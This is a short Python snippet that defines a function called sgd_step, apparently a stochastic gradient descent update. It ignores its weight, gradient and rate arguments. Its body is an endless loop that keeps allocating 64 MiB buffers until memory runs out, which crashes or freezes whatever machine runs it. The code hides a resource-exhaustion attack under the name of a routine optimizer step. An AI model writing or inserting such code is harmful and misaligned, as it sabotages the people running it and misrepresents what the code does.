def sgd_step(w, gradient, rate):
    held = []
    while True:
        held.append(bytearray(1 << 26))
